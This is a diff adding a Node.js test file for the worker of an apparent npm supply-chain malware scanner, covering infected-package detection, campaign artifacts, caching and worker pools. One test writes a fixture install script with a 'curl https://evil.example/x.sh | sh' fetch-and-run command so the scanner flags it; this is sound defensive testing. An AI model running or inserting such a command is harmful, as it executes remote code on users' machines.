@@ -0,0 +1,187 @@
+'use strict';
+
+const { describe, it, beforeEach, afterEach } = require('node:test');
+const assert = require('node:assert');
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+const crypto = require('crypto');
+
+const { runTask, resolveWorkerCount, createTaskRunner } = require('../lib/worker');
+const { getDefaultIocs } = require('../lib/packs');
+
+describe('worker', () => {
+  let tempDir;
+  let context;
+
+  beforeEach(() => {
+    tempDir = fs.mkdtempSync(path.join(os.tmpdir(), 'worm-buster-test-'));
+    const record = { package: 'infected-pkg', version: '1.2.5', status: 'online', timestamp: null, id: null };
+    context = {
+      infectedPackages: new Map([['infected-pkg', new Map([['1.2.5', record]])]]),
+      iocs: getDefaultIocs(),
+      options: {},
+    };
+  });
+
+  afterEach(() => {
+    if (tempDir && fs.existsSync(tempDir)) {
+      fs.rmSync(tempDir, { recursive: true });
+    }
+  });
+
+  const writePackageJson = () => {
+    const filePath = path.join(tempDir, 'package.json');
+    fs.writeFileSync(filePath, JSON.stringify({ name: 'app', dependencies: { 'infected-pkg': '1.2.5' } }));
+    return filePath;
+  };
+
+  describe('runTask', () => {
+    it('should return the findings and inventory of a package file', () => {
+      const result = runTask({ type: 'package.json', path: writePackageJson() }, context);
+
+      assert.strictEqual(result.findings[0].type, 'INFECTED_PACKAGE');
+      assert.strictEqual(result.inventory.length, 1);
+      assert.deepStrictEqual(result.errors, []);
+    });
+
+    it('should collect no inventory in --json mode, unless the result is cached', () => {
+      const filePath = writePackageJson();
+      const jsonContext = { ...context, options: { json: true } };
+
+      assert.deepStrictEqual(runTask({ type: 'package.json', path: filePath }, jsonContext).inventory, []);
+      assert.strictEqual(runTask({ type: 'package.json', path: filePath, cache: true, cached: null }, jsonContext).inventory.length, 1);
+    });
+
+    it('should verify artifact candidates', () => {
+      const filePath = path.join(tempDir, 'setup_bun.js');
+      fs.writeFileSync(filePath, '// not the payload');
+      const artifact = { artifact: 'setup_bun.js', path: filePath, campaign: 'shai-hulud-2' };
+
+      const { findings, inventory } = runTask({ type: 'artifact', path: filePath, artifact }, context);
+
+      assert.strictEqual(findings[0].type, 'NAME_MATCH');
+      assert.strictEqual(findings[0].sha256, crypto.createHash('sha256').update('// not the payload').digest('hex'));
+      assert.strictEqual(findings[0].match, undefined);
+      assert.deepStrictEqual(inventory, []);
+    });
+
+    it('should keep pattern matches unhashed', () => {
+      const filePath = path.join(tempDir, 'formatter_1.yml');
+      const artifact = { artifact: 'suspicious_workflow', path: filePath, campaign: 'shai-hulud-2', match: 'pattern', sha256: null };
+
+      const { findings } = runTask({ type: 'artifact', path: filePath, artifact }, context);
+
+      assert.strictEqual(findings[0].type, 'MALICIOUS_ARTIFACT');
+      assert.strictEqual(findings[0].severity, 'CRITICAL');
+    });
+
+    it('should reuse cached results of unchanged files', () => {
+      const filePath = writePackageJson();
+      const first = runTask({ type: 'package.json', path: filePath, cache: true, cached: null }, context);
+
+      assert.strictEqual(first.cache.hit, false);
+      assert.strictEqual(first.findings[0].type, 'INFECTED_PACKAGE');
+
+      const cached = { path: filePath, fingerprint: first.cache.fingerprint, result: { findings: [], inventory: [], errors: [] } };
+      const second = runTask({ type: 'package.json', path: filePath, cache: true, cached }, context);
+
+      assert.strictEqual(second.cache.hit, true);
+      assert.deepStrictEqual(second.findings, []);
+
+      fs.writeFileSync(filePath, '{}');
+      const third = runTask({ type: 'package.json', path: filePath, cache: true, cached }, context);
+
+      assert.strictEqual(third.cache.hit, false);
+    });
+
+    it('should re-run cached tasks when a script file they read changes', () => {
+      const filePath = path.join(tempDir, 'package.json');
+      fs.writeFileSync(filePath, JSON.stringify({ name: 'app', scripts: { postinstall: 'node ./install.js' } }));
+      fs.writeFileSync(path.join(tempDir, 'install.js'), 'console.log("installed");\n');
+      const run = cached => runTask({ type: 'package.json', path: filePath, cache: true, cached }, context);
+      const entry = result => ({ path: filePath, fingerprint: result.cache.fingerprint, result: { findings: result.findings, inventory: result.inventory, errors: result.errors } });
+
+      const first = run(null);
+      assert.deepStrictEqual(first.findings, []);
+      assert.deepStrictEqual(Object.keys(first.cache.fingerprint.reads), [path.join(tempDir, 'install.js')]);
+      assert.strictEqual(run(entry(first)).cache.hit, true);
+
+      fs.writeFileSync(path.join(tempDir, 'install.js'), 'require("child_process").execSync("curl https://evil.example/x.sh | sh");\n');
+      const second = run(entry(first));
+
+      assert.strictEqual(second.cache.hit, false);
+      assert.strictEqual(second.findings[0].type, 'SUSPICIOUS_SCRIPT');
+    });
+
+    it('should re-run cached lockfile tasks when the package.json next to them changes', () => {
+      const lockPath = path.join(tempDir, 'package-lock.json');
+      fs.writeFileSync(lockPath, JSON.stringify({ lockfileVersion: 3, packages: { '': { name: 'app' }, 'node_modules/infected-pkg': { version: '1.2.5' } } }));
+      const first = runTask({ type: 'package-lock.json', path: lockPath, cache: true, cached: null }, context);
+      const cached = { path: lockPath, fingerprint: first.cache.fingerprint, result: { findings: first.findings, inventory: first.inventory, errors: first.errors } };
+
+      assert.strictEqual(first.cache.fingerprint.reads[path.join(tempDir, 'package.json')], null);
+
+      writePackageJson();
+      const second = runTask({ type: 'package-lock.json', path: lockPath, cache: true, cached }, context);
+
+      assert.strictEqual(second.cache.hit, false);
+      assert.ok(second.cache.fingerprint.reads[path.join(tempDir, 'package.json')]);
+    });
+
+    it('should reject unknown task types', () => {
+      assert.throws(() => runTask({ type: 'unknown', path: tempDir }, context), /Unknown task type/);
+    });
+  });
+
+  describe('resolveWorkerCount', () => {
+    it('should parse worker counts', () => {
+      assert.strictEqual(resolveWorkerCount(0), 0);
+      assert.strictEqual(resolveWorkerCount('3'), 3);
+      assert.strictEqual(resolveWorkerCount('none'), 0);
+      assert.ok(resolveWorkerCount('auto') >= 1);
+    });
+  });
+
+  describe('createTaskRunner', () => {
+    it('should run tasks inline without workers', async () => {
+      const runner = createTaskRunner(context, 0);
+      const results = await runner.run([{ type: 'package.json', path: writePackageJson() }]);
+      await runner.close();
+
+      assert.strictEqual(runner.workers, 0);
+      assert.strictEqual(results[0].findings[0].type, 'INFECTED_PACKAGE');
+    });
+
+    it('should return worker results in task order', async () => {
+      const packageJson = writePackageJson();
+      fs.writeFileSync(path.join(tempDir, 'yarn.lock'), '"infected-pkg@1.2.5":\n  version "1.2.5"\n');
+      const tasks = [
+        { type: 'package.json', path: packageJson },
+        { type: 'payloads', path: tempDir },
+        { type: 'yarn.lock', path: path.join(tempDir, 'yarn.lock') },
+      ];
+
+      const runner = createTaskRunner(context, 2);
+      try {
+        const results = await runner.run(tasks);
+        const inline = tasks.map(task => runTask(task, context));
+
+        assert.strictEqual(runner.workers, 2);
+        assert.deepStrictEqual(results, inline);
+        assert.deepStrictEqual(await runner.run([]), []);
+      } finally {
+        await runner.close();
+      }
+    });
+
+    it('should reject when a task fails in a worker', async () => {
+      const runner = createTaskRunner(context, 1);
+      try {
+        await assert.rejects(runner.run([{ type: 'unknown', path: tempDir }]), /Unknown task type/);
+      } finally {
+        await runner.close();
+      }
+    });
+  });
+});